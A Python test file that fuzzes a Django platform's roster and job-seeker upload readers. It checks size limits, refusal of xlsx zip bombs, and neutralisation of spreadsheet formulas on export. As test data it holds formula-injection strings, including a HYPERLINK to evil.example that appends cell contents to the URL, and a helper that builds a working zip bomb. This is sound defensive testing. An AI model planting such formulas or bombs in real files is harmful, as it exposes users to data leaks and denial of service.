"""Hostile uploads: property-based fuzzing of the roster importer and the match_batch reader, size
limits before parsing, xlsx zip bombs, and formula strings on export. Always a Chinese error and
nothing half-saved."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pandas as pd
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from employment.security import UploadRefused, upload_check
from employment.table_import import RowError, TableFileError
from matching.batch import SEEKER_COLUMNS, BatchFileError, read_seekers
from quota.roster_import import HEADERS, read_roster
from tests.quota.conftest import cert, roster_csv, roster_row, roster_xlsx

CHINESE = re.compile(r"[\u4e00-\u9fff]")
FULL_WIDTH = str.maketrans("0123456789Xx-,", "０１２３４５６７８９Ｘｘ－，")
# derandomize: CI runs the same examples every time (a failure is reproducible, not flaky).
FUZZ = settings(max_examples=60, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                        HealthCheck.too_slow])

# ---- strategies ----------------------------------------------------------------------------------

cosmetic = st.sampled_from(["full_width", "spaces", "lower"])
hostile_cell = st.one_of(
    st.sampled_from(["=1+1", "=HYPERLINK(\"http://evil\",\"点我\")", "+SUM(A1:A9)", "-2+3", "@cmd", "\t=1",
                     "", " ", "１２", "ＮＡＮ", "nan", "None", "-0", "9" * 8, "１-１２", "13", "0-0",
                     "2025-02-30", "\x00", "\u202e", "😀"]),
    st.text(max_size=30),
)


def xlsx_of(records: list[dict]) -> bytes:
    """An xlsx of the records; characters a worksheet cannot hold at all are dropped (no real file has them)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return roster_xlsx([{k: ILLEGAL_CHARACTERS_RE.sub("", str(v)) for k, v in r.items()} for r in records])


def cosmetic_change(value: str, how: str) -> str:
    if how == "full_width":
        return value.translate(FULL_WIDTH)
    if how == "spaces":
        return f"  {value}\u3000 "
    return value.lower()


def assert_chinese_row_errors(errors, n_rows):
    for error in errors:
        assert isinstance(error, RowError)
        # >= 2 only: a carriage return inside a quoted CSV cell is read as a line break, so the row
        # number can run past the record count (reported to the lead; the message is still clear).
        assert error.row >= 2
        assert error.column in HEADERS
        assert CHINESE.search(error.reason), error


# ---- the roster importer (pure) --------------------------------------------------------------------


@FUZZ
@given(rows=st.lists(st.tuples(st.sampled_from(HEADERS), hostile_cell), min_size=1, max_size=6),
       as_xlsx=st.booleans())
def test_roster_hostile_cells_give_row_errors_never_crashes(rows, as_xlsx):
    records = [roster_row(n + 1, **{column: value}) for n, (column, value) in enumerate(rows)]
    content = xlsx_of(records) if as_xlsx else roster_csv(records)
    try:
        parsed, errors = read_roster(content, "r.xlsx" if as_xlsx else "r.csv")
    except TableFileError as exc:
        assert CHINESE.search(str(exc))
        return
    assert_chinese_row_errors(errors, len(records))
    # Every non-blank line is either a clean row or has an error naming it.
    error_rows = {e.row for e in errors}
    assert len(parsed) + len(error_rows) >= len(records) - sum(1 for r in records if not any(str(v).strip() for v in r.values()))
    for row in parsed:
        assert not row.name.startswith(("=", "+", "@")) or row.row not in error_rows


@FUZZ
@given(changes=st.lists(st.tuples(st.sampled_from(["证件号码", "月工资（元）", "在岗月份", "社保足额缴纳月份"]), cosmetic),
                        min_size=1, max_size=4),
       encoding=st.sampled_from(["utf-8-sig", "utf-8", "gbk", "gb18030"]))
def test_roster_cosmetic_variants_read_the_same(changes, encoding):
    """Full-width digits, stray (and ideographic) spaces, lowercase x: the same people are read."""
    base = [roster_row(1), roster_row(2, 证件号码=cert(2)[:-2] + "43")]
    expected, errors = read_roster(roster_csv(base), "r.csv")
    assert errors == []
    changed = [dict(r) for r in base]
    for column, how in changes:
        for record in changed:
            record[column] = cosmetic_change(record[column], how)
    try:
        content = roster_csv(changed, encoding)
    except UnicodeEncodeError:
        return  # the ideographic space has no GBK form in some codecs: not a file a user can make
    got, errors = read_roster(content, "r.csv")
    assert errors == []
    assert [(r.cert_no, r.monthly_wage, r.months_employed, r.months_insured) for r in got] == [
        (r.cert_no, r.monthly_wage, r.months_employed, r.months_insured) for r in expected
    ]


@pytest.mark.parametrize("wage", ["1e999", "9" * 40, "9" * 20])
def test_absurd_wages_are_a_row_error(wage):
    rows, errors = read_roster(roster_csv([roster_row(1, **{"月工资（元）": wage})]), "r.csv")
    assert rows == [] and [e.column for e in errors] == ["月工资（元）"]


def test_lowercase_x_is_the_same_person():
    x_cert = next(c for n in range(1, 400) if (c := cert(n))[17] == "X")
    rows, errors = read_roster(roster_csv([roster_row(1, 证件号码=x_cert.lower())]), "r.csv")
    assert errors == [] and rows[0].cert_no == x_cert


def test_duplicate_rows_are_reported():
    rows, errors = read_roster(roster_csv([roster_row(1), roster_row(2), roster_row(1)]), "r.csv")
    assert [str(e) for e in errors] == ["第4行“证件号码”：与第2行重复"]


@FUZZ
@given(data=st.binary(max_size=2000), name=st.sampled_from(["r.csv", "r.xlsx", "r.xls", "r.txt"]))
def test_roster_arbitrary_bytes_are_a_chinese_file_error(data, name):
    try:
        rows, errors = read_roster(data, name)
    except TableFileError as exc:
        assert CHINESE.search(str(exc))
    else:
        assert_chinese_row_errors(errors, 10_000)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "shift_jis"])
def test_wrong_encodings_are_refused_in_chinese(encoding):
    content = "\n".join([",".join(HEADERS), "张三," + cert(1)]).encode(encoding, errors="replace")
    with pytest.raises(TableFileError) as info:
        read_roster(content, "r.csv")
    assert CHINESE.search(str(info.value))


# ---- size limits and zip bombs ----------------------------------------------------------------------


def zip_bomb_xlsx(uncompressed_mb: int = 60) -> bytes:
    """A real roster xlsx with one worksheet member padded to ``uncompressed_mb`` of blanks."""
    buffer = io.BytesIO(roster_xlsx([roster_row(1)]))
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.endswith("sheet1.xml"):
                data = data.replace(b"</worksheet>", b" " * (uncompressed_mb * 1024 * 1024) + b"</worksheet>")
            dst.writestr(item.filename, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return out.getvalue()


def test_upload_check_refuses_big_files_and_zip_bombs():
    with pytest.raises(UploadRefused, match="文件太大"):
        upload_check(b"x" * (5 * 1024 * 1024 + 1), "r.csv")
    bomb = zip_bomb_xlsx()
    assert len(bomb) < 1024 * 1024  # small on the wire
    with pytest.raises(UploadRefused, match="解压后异常巨大"):
        upload_check(bomb, "r.xlsx")
    upload_check(roster_xlsx([roster_row(n) for n in range(1, 200)]), "r.xlsx")  # a real roster passes
    upload_check(b"not a zip", "r.xlsx")  # left to the reader's own error


def test_readers_refuse_zip_bombs_themselves(tmp_path):
    """The limits hold even when a file reaches a reader without the upload middleware."""
    from matching.batch import BatchFileError, read_table

    bomb = zip_bomb_xlsx()
    with pytest.raises(TableFileError, match="解压后异常巨大"):
        read_roster(bomb, "r.xlsx")
    path = tmp_path / "seekers.xlsx"
    path.write_bytes(bomb)
    with pytest.raises(BatchFileError, match="解压后异常巨大"):
        read_table(path, ["seeker_id"])


@pytest.fixture
def filed(world, start_declaration):
    return start_declaration(world.employer_a, world.users["employer_a"], rows=[roster_row(1), roster_row(2)])


def _roster(declaration):
    return sorted(declaration.roster.values_list("name", "cert_hash"))


@pytest.mark.django_db
def test_huge_upload_is_refused_before_parsing_and_nothing_changes(world, filed, client_for, settings):
    settings.UPLOAD_MAX_BYTES = 100 * 1024

    before = _roster(filed)
    client = client_for(world.users["employer_a"])
    big = roster_csv([roster_row(n) for n in range(1, 3000)])
    assert len(big) > 200 * 1024
    response = client.post(reverse("employer-roster-upload", args=[filed.pk]),
                           {"file": SimpleUploadedFile("r.csv", big, content_type="text/csv"), "replace_confirm": "on"})
    assert response.status_code == 413
    assert "上传的文件太大" in response.content.decode()
    assert _roster(filed) == before


@pytest.mark.django_db
def test_zip_bomb_upload_is_refused_and_nothing_changes(world, filed, client_for):
    before = _roster(filed)
    client = client_for(world.users["employer_a"])
    response = client.post(reverse("employer-roster-upload", args=[filed.pk]),
                           {"file": SimpleUploadedFile("r.xlsx", zip_bomb_xlsx(), content_type="application/zip"),
                            "replace_confirm": "on"})
    assert response.status_code == 400
    assert "解压后异常巨大" in response.content.decode()
    assert _roster(filed) == before


@pytest.mark.django_db
@FUZZ
@given(bad=st.tuples(st.sampled_from(HEADERS), hostile_cell), position=st.integers(0, 3), as_xlsx=st.booleans())
def test_a_file_with_any_bad_row_saves_nothing(world, filed, client_for, bad, position, as_xlsx):
    """Through the upload page: either the whole file is imported, or nothing changes and the page
    shows Chinese errors."""
    before = _roster(filed)
    records = [roster_row(n) for n in range(3, 7)]
    records[position] = roster_row(3 + position, **{bad[0]: bad[1]})
    content = xlsx_of(records) if as_xlsx else roster_csv(records)
    client = client_for(world.users["employer_a"])
    response = client.post(reverse("employer-roster-upload", args=[filed.pk]),
                           {"file": SimpleUploadedFile("r.xlsx" if as_xlsx else "r.csv", content),
                            "replace_confirm": "on"})
    after = _roster(filed)
    if response.status_code == 302:
        assert len(after) == 4  # the whole new roster, not a mix
        from quota import services

        services.declaration_roster_import(declaration=filed, content=roster_csv([roster_row(1), roster_row(2)]),
                                           filename="r.csv", user=world.users["employer_a"])
    else:
        assert response.status_code == 200
        assert after == before
        assert CHINESE.search(response.content.decode())


def test_formula_strings_are_neutralised_on_export(db, world, start_declaration):
    """A name like =HYPERLINK(...) must come back out as text, not as a live formula."""
    import openpyxl

    from quota.exports import roster_xlsx as export_roster

    declaration = start_declaration(world.employer_a, world.users["employer_a"],
                                    rows=[roster_row(1, 姓名='=HYPERLINK("http://evil","点我")')])
    sheet = openpyxl.load_workbook(io.BytesIO(export_roster(declaration, exported_by="甲公司（employer_a）"))).active
    kinds = [cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "f" not in kinds



@pytest.mark.parametrize("report", ["wagtailadmin_reports:site_history", "wagtailadmin_reports:aging_pages",
                                    "wagtailadmin_reports:workflow"])
def test_admin_report_csv_exports_write_no_live_formula(world, client_for, report):
    """A page title a provider typed as a formula comes out of the district's CSV download of a Wagtail
    report as text (a leading apostrophe), as the XLSX download and the platform's own exports do."""
    from cms import services as cms
    from cms.models import NewsIndexPage

    title = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
    page = cms.homepage_ensure().add_child(instance=NewsIndexPage(title=title, slug="evil"))
    cms.page_publish(page, user=world.users["district"])  # in the site history and the aging pages
    page.get_workflow().start(page, world.users["district"])  # in the workflow report
    response = client_for(world.users["district"]).get(reverse(report), {"export": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + title in cells, body[:1000]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)

# ---- the match_batch reader -----------------------------------------------------------------------------

GOOD_SEEKER = ["S1", "言语", "2", "江厦街道", "高中", "打字;电脑操作", "做过网店售后", "网店客服", "8", "", "电话沟通;verbal"]


@settings(max_examples=60, deadline=None, derandomize=True)
@given(cells=st.lists(st.tuples(st.integers(0, len(SEEKER_COLUMNS) - 1), hostile_cell), max_size=8),
       duplicate=st.booleans(), encoding=st.sampled_from(["utf-8", "utf-8-sig", "gbk"]),
       as_xlsx=st.booleans())
def test_batch_reader_hostile_rows_are_chinese_row_errors(tmp_path_factory, cells, duplicate, encoding, as_xlsx):
    rows = [list(GOOD_SEEKER), ["S2", *GOOD_SEEKER[1:]]]
    for n, (column, value) in enumerate(cells):
        rows[n % 2][column] = value
    if duplicate:
        rows.append(list(rows[0]))
    path = tmp_path_factory.mktemp("batch") / ("s.xlsx" if as_xlsx else "s.csv")
    if as_xlsx:
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        clean = [[ILLEGAL_CHARACTERS_RE.sub("", v) for v in row] for row in rows]
        pd.DataFrame(clean, columns=list(SEEKER_COLUMNS)).to_excel(path, index=False)
    else:
        try:
            with open(path, "w", encoding=encoding, newline="") as fh:
                csv.writer(fh).writerows([list(SEEKER_COLUMNS), *rows])
        except UnicodeEncodeError:
            return
    try:
        seekers, errors = read_seekers(path)
    except BatchFileError as exc:
        assert CHINESE.search(str(exc))
        return
    for error in errors:
        assert 2 <= error.row <= len(rows) + 1 and CHINESE.search(error.message)
    ids = [s.id for s in seekers]
    assert len(ids) == len(set(ids))  # a duplicated id is never matched twice
    assert len(seekers) + len({e.row for e in errors}) == len(rows)


@settings(max_examples=40, deadline=None, derandomize=True)
@given(data=st.binary(max_size=2000), suffix=st.sampled_from([".csv", ".xlsx", ".txt"]))
def test_batch_reader_arbitrary_bytes_are_a_chinese_file_error(tmp_path_factory, data, suffix):
    path = tmp_path_factory.mktemp("batch") / f"s{suffix}"
    path.write_bytes(data)
    try:
        read_seekers(path)
    except BatchFileError as exc:
        assert CHINESE.search(str(exc))
